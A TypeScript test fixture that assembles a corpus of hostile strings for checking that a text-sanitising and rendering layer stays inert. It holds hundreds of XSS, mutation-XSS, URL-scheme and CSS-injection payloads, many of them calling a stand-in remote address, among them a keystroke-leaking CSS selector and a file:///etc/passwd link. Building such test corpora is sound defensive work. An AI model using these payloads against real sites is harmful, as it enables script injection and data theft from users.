/**
 * More than five hundred texts that would run, ask for something, break out of their place or upset a layout
 * if anything were read in them but letters. They are made from parts: what is broken out of, what is put
 * there, how it is written. What runs sets `window.hit`; what asks, asks an address that nobody has.
 */
import { cleanText, codePoints } from '../../core/text.ts';
import { LETTERS, PROGRAMS } from './hostileLetters.ts';
import { HOSTILE } from './hostileTexts.ts';

/** Nobody's address (RFC 5737). */
const AWAY = '198.51.100.7';
const HIT = 'window.hit=1';

const BREAKS = [
  '',
  '">',
  "'>",
  '</textarea>',
  '</title></style></script>',
  '--><!--',
  ']]>',
  '</svg></math>',
  '</select></option>',
  '</noscript><noscript>',
  '</w:t></w:r></w:p>',
];

const MARKUP = [
  `<script>${HIT}</script>`,
  `<script src=//${AWAY}/a.js></script>`,
  `<script type=module>import '//${AWAY}/m.js'</script>`,
  `<img src=x onerror=${HIT}>`,
  `<img src=//${AWAY}/pixel.png>`,
  `<image href=//${AWAY}/i.png onerror=${HIT}>`,
  `<svg onload=${HIT}>`,
  `<svg><script>${HIT}</script></svg>`,
  `<svg><use href="//${AWAY}/u.svg#x"/></svg>`,
  `<svg><animate onbegin=${HIT} attributeName=x dur=1s>`,
  `<svg><a href="javascript:${HIT}"><text y=20>press</text></a></svg>`,
  `<math><maction xlink:href="javascript:${HIT}">press</maction></math>`,
  `<style>@import '//${AWAY}/s.css';*{display:none}</style>`,
  `<link rel=stylesheet href=//${AWAY}/l.css>`,
  `<link rel=preload as=image href=//${AWAY}/p.png>`,
  `<meta http-equiv=refresh content="0;url=//${AWAY}/r">`,
  `<base href=//${AWAY}/>`,
  `<iframe src="javascript:${HIT}"></iframe>`,
  `<iframe srcdoc="<script>top.hit=1</script>"></iframe>`,
  `<object data=//${AWAY}/o></object>`,
  `<embed src=//${AWAY}/e>`,
  `<form action=//${AWAY}/f><button>Place</button></form>`,
  `<button formaction="javascript:${HIT}">Next</button>`,
  `<input autofocus onfocus=${HIT}>`,
  `<details open ontoggle=${HIT}><summary>x</summary></details>`,
  `<video src=//${AWAY}/v><source onerror=${HIT}></video>`,
  `<audio autoplay src=//${AWAY}/a onerror=${HIT}></audio>`,
  `<body onload=${HIT} style=display:none>`,
  `<table background=//${AWAY}/t.png><td>x`,
  `<a href="javascript:${HIT}" autofocus>press</a>`,
  `<template shadowrootmode=open><slot onslotchange=${HIT}></template>`,
  `<dialog open style="position:fixed;inset:0">Enter the PIN</dialog>`,
];

const spelt = (each: (code: number) => string) => (text: string) =>
  [...text].map((letter) => each(letter.codePointAt(0) ?? 0)).join('');
const hex = (code: number, width: number): string => code.toString(16).padStart(width, '0');

/** The same written so that whoever decodes once too often makes markup of it. */
const WRITTEN: ((text: string) => string)[] = [
  (t) => t.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (t) => t.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  (t) => t.replaceAll('<', '&#60').replaceAll('>', '&#0000062;'),
  (t) => t.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
  (t) => t.replaceAll('<', '\\x3C').replaceAll('>', '\\x3E'),
  (t) => t.replaceAll('<', '%3C').replaceAll('>', '%3E'),
  (t) => t.replaceAll('<', '%253C').replaceAll('>', '%253E'),
  (t) => t.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  (t) => t.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  (t) => t.replaceAll('<', '<\u200b').replaceAll('=', '\u00ad='),
  (t) => t.replace(/[a-z]/g, (letter, at: number) => (at % 2 === 0 ? letter.toUpperCase() : letter)),
  (t) => t.replaceAll('s', '\u017f').replaceAll('i', '\u0131'),
];

const EVENTS =
  'load error click mouseover focus blur input change submit toggle beforetoggle pointerenter touchstart wheel scroll scrollend animationstart animationend transitionend beforeinput copy paste cut drag drop hashchange message pageshow popstate resize storage unload beforeunload securitypolicyviolation slotchange begin end repeat'.split(
    ' ',
  );
const QUOTES = ['" ', "' ", '` ', '"\n', '" x="" '];

const SCHEMES = [
  `javascript:${HIT}`,
  `JaVaScRiPt:${HIT}`,
  `java\tscript:${HIT}`,
  `java\nscript:${HIT}`,
  `&#106;avascript:${HIT}`,
  `javascript&colon;${HIT}`,
  `javascript://%0a${HIT}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${HIT}</script>`,
  `data:image/svg+xml,<svg onload=${HIT}>`,
  `blob:http://${AWAY}/1`,
  `filesystem:http://${AWAY}/1`,
  `view-source:http://${AWAY}/`,
  `http://${AWAY}/a.png`,
  `https://user:pass@${AWAY}/`,
  `//${AWAY}/a`,
  `\\\\${AWAY}\\share\\a`,
  `file:///etc/passwd`,
  `ftp://${AWAY}/`,
  `ws://${AWAY}/`,
  `mailto:a@${AWAY}?bcc=b`,
  `tel:+441632960000`,
  `ms-word:ofe|u|http://${AWAY}/a.docx`,
  `![x](http://${AWAY}/md.png) [x](javascript:${HIT})`,
];

const CSS = [
  `";background:url(//${AWAY}/c)`,
  `}*{display:none}body{background:url(//${AWAY}/c)}`,
  `x:expression(${HIT})`,
  `-moz-binding:url(//${AWAY}/b)`,
  `@import url(//${AWAY}/c);`,
  `@font-face{font-family:x;src:url(//${AWAY}/f)}`,
  `position:fixed;inset:0;z-index:9999`,
  `var(--ink);content:url(//${AWAY}/c)`,
  `\\3c script\\3e ${HIT}`,
  `/* */ */ /*`,
  `:root{--paper:#000;--ink:#000}`,
  `input[value^="a"]{background:url(//${AWAY}/k)}`,
];

/** Markup that one parser reads in another way than the next. */
const MUTATING = [
  `<noscript><p title="</noscript><img src=x onerror=${HIT}>">`,
  `<svg></p><style><a id="</style><img src=x onerror=${HIT}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${HIT}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${HIT}>`,
  `<listing>&lt;img src=x onerror=${HIT}&gt;</listing>`,
  `<xmp><p title="</xmp><img src=x onerror=${HIT}>">`,
  `<p title="\`\`onmouseover=${HIT}">`,
  `<div><!--[if IE]><script>${HIT}</script><![endif]-->`,
  `<!--><img src=x onerror=${HIT}>-->`,
  `<!--!><img src=x onerror=${HIT}>--!>`,
  `<![CDATA[<img src=x onerror=${HIT}>]]>`,
  `<?xml-stylesheet href="//${AWAY}/x.xsl"?><x>`,
  `<a/href=x/onclick=${HIT}//>x</a///>`,
  `<<script>${HIT}//<</script>`,
  `<scr<script>ipt>${HIT}</scr</script>ipt>`,
  `<img src="x\`"onerror=${HIT}\`>`,
  `<svg><desc><noscript><img src=x onerror=${HIT}>`,
  `<annotation-xml encoding="text/html"><img src=x onerror=${HIT}>`,
  `<option><style></option></select><img src=x onerror=${HIT}></style>`,
  `<plaintext>all that comes after`,
];

const BEFORE: readonly string[] = [
  ...HOSTILE,
  ...BREAKS.flatMap((out, i) => MARKUP.filter((_, at) => i < 4 || at % 4 === i % 4).map((tag) => out + tag)),
  ...WRITTEN.flatMap((write, i) => MARKUP.filter((_, at) => at % 5 === i % 5).map(write)),
  spelt((code) => `&#${code};`)('<img src=x onerror=hit>'),
  spelt((code) => `&#x${hex(code, 4)};`)('<svg onload=hit>'),
  spelt((code) => `\\u${hex(code, 4)}`)('<script>hit</script>'),
  ...EVENTS.map((event, i) => `${QUOTES[i % QUOTES.length] ?? ''}on${event}=${HIT} y="${i}`),
  ...SCHEMES,
  ...CSS,
  ...MUTATING,
  ...PROGRAMS,
  ...LETTERS,
];

/** Texts that hold a control character, each kind of them: no keyboard types one. */
export const REFUSED: readonly string[] = [
  ...Array.from({ length: 32 }, (_, code) => code).filter((code) => ![9, 10, 13].includes(code)),
  ...Array.from({ length: 33 }, (_, i) => 0x7f + i),
].map((code) => `before ${String.fromCodePoint(code)} after`);

/** At least five hundred that can be kept, each of another content; none is longer than a statement may be. */
export const CORPUS: readonly string[] = [
  ...new Map(
    BEFORE.filter((text) => cleanText(text) !== null && codePoints(text) <= 400).map((text) => [
      cleanText(text),
      text,
    ]),
  ).values(),
].filter((text) => cleanText(text) !== '');

/** The whole of it on every surface takes minutes; `npm run test:hostile` asks for that. */
export const LONG = process.env['HOSTILE'] === 'all';

/** What has to be read again to the letter wherever it stands. */
export { INNOCENT } from './hostileLetters.ts';
